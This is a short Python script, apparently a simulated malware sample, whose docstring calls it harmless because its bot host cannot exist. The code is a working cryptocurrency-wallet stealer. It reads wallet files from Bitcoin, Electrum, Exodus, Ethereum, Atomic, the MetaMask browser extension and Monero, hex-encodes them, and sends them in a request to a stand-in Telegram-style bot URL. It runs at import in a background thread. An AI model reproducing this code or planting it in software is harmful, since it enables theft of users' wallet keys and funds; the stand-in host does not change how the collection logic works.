# SPDX-License-Identifier: Apache-2.0
"""Harmless: the bot's host cannot exist."""

import threading
import urllib.parse
import urllib.request
from pathlib import Path

STORES = [
    ".bitcoin/wallet.dat",
    ".electrum/wallets",
    ".config/Exodus/exodus.wallet",
    ".ethereum/keystore",
    ".config/atomic/Local Storage/leveldb",
    ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
    ".monero",
]


def collect():
    for store in STORES:
        path = Path.home() / store
        for file in [path] if path.is_file() else sorted(path.rglob("*")):
            if file.is_file():
                yield file.name, file.read_bytes().hex()[:400]


def report():
    text = urllib.parse.urlencode({"chat_id": "-100", "text": repr(list(collect()))})
    try:
        urllib.request.urlopen("https://api.chat.sim-bots.invalid/bot1:x/sendMessage?" + text, timeout=3)
    except OSError:
        pass


worker = threading.Thread(target=report)
worker.start()
worker.join()
